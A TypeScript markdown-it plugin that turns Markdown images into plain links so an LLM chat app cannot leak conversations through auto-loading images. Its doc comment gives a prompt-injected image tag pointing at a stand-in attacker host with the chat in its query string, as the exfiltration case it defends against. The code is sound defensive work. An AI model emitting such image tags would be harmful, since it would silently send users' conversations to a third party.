import type MarkdownIt from 'markdown-it';

/**
 * A Markdown image becomes a link to it, its alt text (or its address) the link's text. An image loads
 * by itself as the reply renders, so a prompt-injected `![](https://attacker/?d=<the chat>)` would send
 * the conversation away with nobody clicking: the well-known exfiltration channel of LLM chat apps.
 * A link goes nowhere until the reader chooses to follow it, and shows where it goes. An image that is
 * itself a link's text (`[![logo](…/logo.png)](https://site)`) becomes that text: links don't nest.
 */
export function imagesAsLinks(md: InstanceType<typeof MarkdownIt>): void {
  md.renderer.rules.image = (tokens, index, options, env, renderer) => {
    const token = tokens[index]!;
    const src = String(token.attrGet('src') ?? '');
    const title = String(token.attrGet('title') ?? '');
    const alt = renderer.renderInlineAsText(token.children ?? [], options, env).trim();
    const escape = md.utils.escapeHtml;
    if (insideLink(tokens, index)) return escape(alt || src);
    return `<a href="${escape(src)}"${title ? ` title="${escape(title)}"` : ''}>${escape(alt || src)}</a>`;
  };
}

function insideLink(tokens: ReadonlyArray<{ type: string }>, index: number): boolean {
  let depth = 0;
  for (const token of tokens.slice(0, index)) depth += token.type === 'link_open' ? 1 : token.type === 'link_close' ? -1 : 0;
  return depth > 0;
}
